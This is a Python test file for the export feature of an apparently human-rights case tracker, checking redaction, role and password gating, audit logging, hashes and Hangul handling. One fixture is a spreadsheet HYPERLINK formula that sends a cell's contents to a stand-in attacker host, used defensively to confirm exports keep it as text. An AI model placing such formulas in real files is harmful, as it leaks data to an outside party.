"""Exports: redacted for everyone by default, identifying only for identity roles with a reason
and a fresh password (audited), the same rows and numbers as the pages, Hangul intact, and no
cell a spreadsheet would run as a formula."""

import csv
import hashlib
import io
import json
import re
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests import factories
from tests.conftest import csrf_token
from tests.workspace.records import (
    FAMILY_NAME,
    GIVEN_NAME,
    IDENTIFYING_VALUES,
    NAME_HANGUL,
    ORIGIN,
    SECRET_ORG,
    SECRET_SOURCE,
    STATUS_NOTE,
    october_case,
)
from tracker.audit.models import AuditEntry
from tracker.dashboard.filters import parse_filters
from tracker.dashboard.services import summarise
from tracker.extensions import db
from tracker.persons.services import persons
from tracker.places.services import facilities

FORMATS = ["csv", "xlsx", "json"]
LISTS = ["persons", "events", "facilities", "crossings", "sources", "statuses", "summary"]
REDACTED_MUST_NOT_HOLD = [*IDENTIFYING_VALUES, ORIGIN, "Hoeryong", STATUS_NOTE, SECRET_SOURCE]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def world(app):
    editor = factories.make_user("researcher", "editor@example.org")
    records = october_case(editor)
    second = persons.create(
        editor, {"family_name": "Parkhollow", "gender": "male", "event_id": records["event"].id}
    )
    records["second"] = second
    db.session.commit()
    return records


def file_text(body: bytes, fmt: str) -> str:
    """Everything a file holds as text: for XLSX, every member of the zip, unpacked."""
    if fmt == "xlsx":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            return "\n".join(archive.read(name).decode("utf-8") for name in archive.namelist())
    return body.decode("utf-8-sig")


def download(client, role_can_see: bool, what: str, fmt: str = "csv", **fields):
    """Ask for an export the way the export form does (POST for identity roles, else GET)."""
    data = {"what": what, "format": fmt, **fields}
    if role_can_see:
        data["csrf_token"] = csrf_token(client, f"/exports/new?what={what}")
        return client.post("/exports/file", data=data)
    return client.get("/exports/file", query_string=data)


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("role", ["analyst", "researcher", "admin"])
def test_redacted_files_hold_no_identifying_value_for_any_role(world, client, login_as, role, fmt):
    login_as(role)
    for what in LISTS:
        response = download(client, role != "analyst", what, fmt)
        assert response.status_code == 200, (what, response.get_data(as_text=True)[:300])
        text = file_text(response.data, fmt)
        found = [value for value in REDACTED_MUST_NOT_HOLD if value.lower() in text.lower()]
        assert found == [], (what, found)
        escaped = json.dumps(NAME_HANGUL)[1:-1]
        assert escaped not in text
    persons_file = file_text(download(client, role != "analyst", "persons", fmt).data, fmt)
    assert "RT-2023-0001" in persons_file  # case codes stay


def test_an_analyst_never_gets_identifying_fields(world, client, login_as):
    login_as("analyst")
    asked = client.get(
        "/exports/file", query_string={"what": "persons", "identifying": "1", "reason": "x"}
    )
    assert asked.status_code == 403
    assert FAMILY_NAME not in asked.get_data(as_text=True)
    token = csrf_token(client, "/exports/new?what=persons")
    posted = client.post(
        "/exports/file",
        data={"what": "persons", "identifying": "1", "reason": "x", "csrf_token": token},
    )
    assert posted.status_code == 403
    assert FAMILY_NAME not in posted.get_data(as_text=True)
    assert not db.session.execute(
        select(AuditEntry).where(AuditEntry.action.like("export%"))
    ).first()


def test_identifying_export_needs_a_reason_and_the_password_and_is_audited(world, client, login_as):
    user = login_as("researcher")
    no_reason = download(
        client, True, "persons", identifying="1", password=factories.PASSWORD, reason=""
    )
    assert no_reason.status_code == 400
    wrong = download(client, True, "persons", identifying="1", password="nope", reason="UN")
    assert wrong.status_code == 403
    assert FAMILY_NAME not in wrong.get_data(as_text=True)
    reason = "Case file for the UN Working Group"
    response = download(
        client,
        True,
        "persons",
        "csv",
        identifying="1",
        password=factories.PASSWORD,
        reason=reason,
        status="vanished",
    )
    assert response.status_code == 200
    rows = csv_rows(response.data)
    assert [(r["family_name"], r["given_name"], r["name_hangul"]) for r in rows] == [
        (FAMILY_NAME, GIVEN_NAME, NAME_HANGUL)
    ]
    entries = {
        e.action: e
        for e in db.session.execute(
            select(AuditEntry).where(AuditEntry.action.like("export%"))
        ).scalars()
    }
    assert set(entries) == {"export.start", "export"}
    done = entries["export"]
    assert done.actor_id == user.id
    assert done.changes["rows"] == 1
    assert done.changes["sha256"] == hashlib.sha256(response.data).hexdigest()
    assert done.changes["filters"] == {"status": "vanished"}
    assert done.changes["reason"] == reason
    assert done.changes["redaction"]["profile"] == "identifying"
    # Within the next few minutes the password need not be typed again.
    again = download(client, True, "persons", identifying="1", reason=reason)
    assert again.status_code == 200
    assert FAMILY_NAME in again.get_data(as_text=True)


def test_identifying_fields_are_never_sent_through_a_url(world, client, login_as):
    login_as("researcher")
    response = client.get(
        "/exports/file", query_string={"what": "persons", "identifying": "1", "reason": "x"}
    )
    assert response.status_code == 400
    assert FAMILY_NAME not in response.get_data(as_text=True)


def test_a_filtered_export_holds_exactly_the_rows_the_filtered_list_shows(world, client, login_as):
    login_as("analyst")
    query = {"status": "vanished", "from": "2023-10-01", "to": "2023-10-31"}
    page = client.get("/persons", query_string=query).get_data(as_text=True)
    shown = re.findall(r"RT-\d{4}-\d{4}", page)
    exported = csv_rows(client.get("/exports/file", query_string={"what": "persons", **query}).data)
    assert shown == [row["case_code"] for row in exported] == ["RT-2023-0001"]
    everyone = csv_rows(client.get("/exports/file", query_string={"what": "persons"}).data)
    assert len(everyone) == 2
    outside = {"what": "persons", "from": "2024-01-01"}
    assert csv_rows(client.get("/exports/file", query_string=outside).data) == []
    events = csv_rows(
        client.get(
            "/exports/file",
            query_string={"what": "events", "crossing_id": world["crossing"].id},
        ).data
    )
    assert [int(row["id"]) for row in events] == [world["event"].id]
    assert events[0]["record_url"].endswith(f"/events/{world['event'].id}")
    statuses = csv_rows(
        client.get("/exports/file", query_string={"what": "statuses", **query}).data
    )
    assert [row["status"] for row in statuses] == ["vanished"]
    assert "note" not in statuses[0]


def test_the_summary_export_has_the_numbers_the_dashboard_shows(world, client, login_as):
    login_as("analyst")
    query = {"from": "2023-10-01", "to": "2023-10-31"}
    expected = summarise(parse_filters(query)).as_api()
    body = client.get("/exports/file", query_string={"what": "summary", "format": "json", **query})
    items = json.loads(body.data)["items"]
    for table in ("by_crossing", "by_facility", "by_status", "by_month", "by_gender"):
        key = {"by_crossing": "id", "by_facility": "id", "by_status": "status"}.get(table)
        key = key or ("month" if table == "by_month" else "gender")
        mine = [
            (i["key"], i["events"], i["people_min"], i["people_max"], i["persons"], i["vanished"])
            for i in items
            if i["table"] == table
        ]
        theirs = [
            (r[key], r["events"], r["people_min"], r["people_max"], r["persons"], r["vanished"])
            for r in expected[table]
        ]
        assert mine == theirs, table
    dashboard = client.get("/", query_string=query).get_data(as_text=True)
    onsong = next(i for i in items if i["table"] == "by_crossing" and i["name"] == "Onsong")
    assert onsong["people_min"] == 300 and onsong["people_max"] is None
    assert "300–?" in dashboard


def test_a_bad_filter_is_a_400_with_a_message_not_a_crash(world, client, login_as):
    login_as("analyst")
    for query in (
        {"what": "summary", "from": "not-a-date"},
        {"what": "persons", "crossing_id": "abc"},
        {"what": "nothing"},
        {"what": "persons", "format": "pdf"},
        {"what": "summary", "small_counts_below": "1"},
    ):
        response = client.get("/exports/file", query_string=query)
        assert response.status_code == 400, query
        assert "<form" in response.get_data(as_text=True)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hangul_round_trips_and_formulas_stay_text(world, client, login_as, fmt):
    login_as("researcher")
    facilities.create(None, {"name": FORMULA, "name_local": "신의주 구류장", "kind": "prison"})
    db.session.commit()
    response = download(client, True, "facilities", fmt, bom="1")
    assert response.status_code == 200
    if fmt == "csv":
        assert response.data.startswith(b"\xef\xbb\xbf")
        rows = csv_rows(response.data)
        names = {row["name"] for row in rows}
        assert "'" + FORMULA in names
        assert "신의주 구류장" in {row["name_local"] for row in rows}
    else:
        book = load_workbook(io.BytesIO(response.data))
        cells = [cell for row in book["Data"].iter_rows() for cell in row]
        formula = next(cell for cell in cells if cell.value == FORMULA)
        assert formula.data_type == "s"  # text, not a formula
        assert any(cell.value == "신의주 구류장" for cell in cells)
        about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
        assert about["redaction.profile"] == "redacted"
        assert about["what"] == "facilities"
    identifying = download(
        client, True, "persons", fmt, identifying="1", reason="UN", password=factories.PASSWORD
    )
    if fmt == "csv":
        assert NAME_HANGUL in {row["name_hangul"] for row in csv_rows(identifying.data)}
    else:
        sheet = load_workbook(io.BytesIO(identifying.data))["Data"]
        assert NAME_HANGUL in {cell.value for row in sheet.iter_rows() for cell in row}


def test_summary_workbook_has_a_sheet_and_a_native_chart_per_table(world, client, login_as):
    login_as("analyst")
    response = client.get("/exports/file", query_string={"what": "summary", "format": "xlsx"})
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        charts = [name for name in archive.namelist() if name.startswith("xl/charts/chart")]
    assert charts
    book = load_workbook(io.BytesIO(response.data))
    assert {"by_crossing", "by_facility", "by_status", "by_month", "by_gender", "About"} <= set(
        book.sheetnames
    )


def test_coarsening_for_publication(world, client, login_as):
    login_as("analyst")
    events = csv_rows(
        client.get("/exports/file", query_string={"what": "events", "coarse_dates": "1"}).data
    )
    assert events[0]["date_start"] == "2023-10"
    summary = csv_rows(
        client.get(
            "/exports/file", query_string={"what": "summary", "small_counts_below": "5"}
        ).data
    )
    onsong = next(row for row in summary if row["table"] == "by_crossing")
    assert onsong["persons"] == "<5"
    assert onsong["people_min"] == "300"  # reported figures are public claims, kept


def test_every_export_has_a_manifest(world, client, login_as):
    login_as("analyst")
    response = client.get("/exports/file", query_string={"what": "events", "format": "json"})
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "export")).scalar_one()
    manifest = client.get(f"/exports/{entry.id}/manifest.json").get_json()
    assert manifest["sha256"] == hashlib.sha256(response.data).hexdigest()
    assert manifest["rows"] == 1
    assert manifest["redaction"]["profile"] == "redacted"
    assert manifest["software"]["version"]
    assert "export" in json.loads(response.data)
    page = client.get("/exports/new?what=events").get_data(as_text=True)
    assert f"/exports/{entry.id}/manifest.json" in page


def test_someone_elses_manifest_is_not_found(world, app, client, login_as):
    login_as("analyst")
    client.get("/exports/file", query_string={"what": "events"})
    entry = db.session.execute(select(AuditEntry).where(AuditEntry.action == "export")).scalar_one()
    other = app.test_client()
    factories.make_user("analyst", "other@example.org")
    db.session.commit()
    from tests.conftest import log_in

    log_in(other, "other@example.org")
    assert other.get(f"/exports/{entry.id}/manifest.json").status_code == 404


def test_list_pages_and_the_dashboard_offer_exports_with_their_filters(world, client, login_as):
    login_as("analyst")
    page = client.get("/persons?status=vanished").get_data(as_text=True)
    assert 'formaction="/exports/new"' in page
    form = client.get("/exports/new?what=persons&status=vanished").get_data(as_text=True)
    assert 'name="status" value="vanished"' in form
    assert 'name="identifying"' not in form
    dashboard = client.get("/?from=2023-10-01").get_data(as_text=True)
    assert "/exports/new?what=summary&amp;from=2023-10-01" in dashboard
    assert "/exports/new?what=persons&amp;from=2023-10-01" in dashboard


@pytest.mark.parametrize("role", ["analyst", "researcher"])
def test_printable_report_carries_the_summary_exports_hash(world, client, login_as, role):
    login_as(role)
    query = {"from": "2023-10-01", "to": "2023-10-31"}
    report = client.get("/exports/report", query_string=query).get_data(as_text=True)
    # The hash of the file the export form downloads with its defaults (a byte-order mark).
    exported = download(client, role != "analyst", "summary", "csv", bom="1", **query)
    assert exported.data.startswith(b"\xef\xbb\xbf")
    assert hashlib.sha256(exported.data).hexdigest() in report
    # A report is for sending: a confidential source is named by its grade alone, for anyone.
    assert "Confidential source" in report and "C3" in report
    for secret in (SECRET_SOURCE, SECRET_ORG, "Marrowgate"):
        assert secret not in report
    assert "China is sending escapers back" in report and "300 people at Onsong" in report
    assert "Reported" in report and "Documented" in report
    assert "From 2023-10-01" in report
    assert FAMILY_NAME not in report
    assert client.get("/exports/report?from=bad").status_code == 400


def test_cli_export_is_redacted_unless_an_identity_role_asks_with_a_reason(world, runner, tmp_path):
    path = tmp_path / "persons.csv"
    result = runner.invoke(
        args=["export", "--what", "persons", "--format", "csv", "--bom", "-o", str(path)]
    )
    assert result.exit_code == 0, result.output
    text = path.read_bytes().decode("utf-8-sig")
    assert FAMILY_NAME not in text and "RT-2023-0001" in text
    manifest = json.loads((tmp_path / "persons.csv.manifest.json").read_text())
    assert manifest["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert manifest["rows"] == 2

    factories.make_user("analyst", "reader@example.org")
    db.session.commit()
    refused = runner.invoke(
        args=[
            *("export", "--what", "persons", "-o", str(path), "--identifying"),
            *("--user", "reader@example.org", "--reason", "curious"),
        ]
    )
    assert refused.exit_code != 0
    assert "redacted" in refused.output

    allowed = runner.invoke(
        args=[
            *("export", "--what", "persons", "--format", "xlsx", "-o", str(tmp_path / "p.xlsx")),
            *("--identifying", "--user", "editor@example.org", "--reason", "UN submission"),
            *("--from", "2023-10-01", "--status", "vanished"),
        ]
    )
    assert allowed.exit_code == 0, allowed.output
    sheet = load_workbook(tmp_path / "p.xlsx")["Data"]
    values = {cell.value for row in sheet.iter_rows() for cell in row}
    assert NAME_HANGUL in values and "Parkhollow" not in values
    done = db.session.execute(
        select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id.desc())
    ).scalars()
    latest = next(done)
    assert latest.actor.email == "editor@example.org"
    assert latest.changes["filters"] == {"from": "2023-10-01", "status": "vanished"}
    assert latest.changes["rows"] == 1
    assert latest.changes["reason"] == "UN submission"


def test_cli_bad_filter_fails_cleanly(world, runner, tmp_path):
    result = runner.invoke(
        args=["export", "--what", "summary", "--from", "2023-13-01", "-o", str(tmp_path / "x")]
    )
    assert result.exit_code != 0
    assert "Traceback" not in result.output


def test_sources_confidential_identity_is_emptied_when_redacted(world, client, login_as):
    login_as("researcher")
    rows = csv_rows(download(client, True, "sources").data)
    secret = next(row for row in rows if row["id"] == str(world["secret"].id))
    assert (
        secret["title"] == "" and secret["organisation"] == "" and secret["confidential"] == "true"
    )
    full = download(
        client, True, "sources", identifying="1", reason="UN", password=factories.PASSWORD
    )
    assert SECRET_ORG in full.get_data(as_text=True)


def test_dates_today_are_iso(world, client, login_as):
    login_as("analyst")
    rows = csv_rows(client.get("/exports/file", query_string={"what": "statuses"}).data)
    assert all(date.fromisoformat(row["as_of"]) for row in rows)


def test_the_audit_log_shows_who_exported_what(world, app, client, login_as):
    login_as("researcher")
    download(client, True, "summary", "xlsx", **{"from": "2023-10-01"})
    download(client, True, "persons", identifying="1", reason="UN", password=factories.PASSWORD)
    admin = app.test_client()
    factories.make_user("admin", "auditor@example.org")
    db.session.commit()
    from tests.conftest import log_in

    log_in(admin, "auditor@example.org")
    page = admin.get("/admin/audit?entity_type=export").get_data(as_text=True)
    assert page.count("<td>export.start</td>") == 1 and "<td>export</td>" in page
    assert "researcher" in page and "identifying" in page and "summary" in page
    assert "UN" in page  # the reason


def test_october_2023_sample_exports_from_the_command_line(app, runner, tmp_path):
    from tracker.sample.services import load_october_2023

    load_october_2023()
    db.session.commit()
    path = tmp_path / "summary.xlsx"
    result = runner.invoke(
        args=["export", "--what", "summary", "--format", "xlsx", "-o", str(path)]
        + ["--from", "2023-10-01", "--to", "2023-10-31"]
    )
    assert result.exit_code == 0, result.output
    book = load_workbook(path)
    onsong = [[c.value for c in row] for row in book["by_crossing"].iter_rows()]
    assert any(row[2] == "Onsong" and row[5] == 300 and row[6] is None for row in onsong)


def test_each_summary_row_links_to_the_persons_it_counts(world, client, login_as):
    login_as("analyst")
    query = {"from": "2023-10-01", "to": "2023-10-31"}
    rows = csv_rows(client.get("/exports/file", query_string={"what": "summary", **query}).data)
    assert rows
    for row in rows:
        path = row["record_url"].removeprefix("http://localhost")
        if row["table"] == "by_status" and not row["key"]:
            assert path == "/?from=2023-10-01&to=2023-10-31"  # no list filter for "none"
            continue
        assert path.startswith("/persons"), row
        listed = re.findall(r"RT-\d{4}-\d{4}", client.get(path).get_data(as_text=True))
        assert len(listed) == int(row["persons"]), (row["table"], row["key"], path)


def test_the_person_export_form_offers_their_status_history(world, client, login_as):
    login_as("analyst")
    form = client.get("/exports/new?what=persons&gender=female").get_data(as_text=True)
    assert 'name="what" value="statuses"' in form
    rows = csv_rows(
        client.get("/exports/file", query_string={"what": "statuses", "gender": "female"}).data
    )
    assert [row["person_id"] for row in rows] == [str(world["person"].id)]
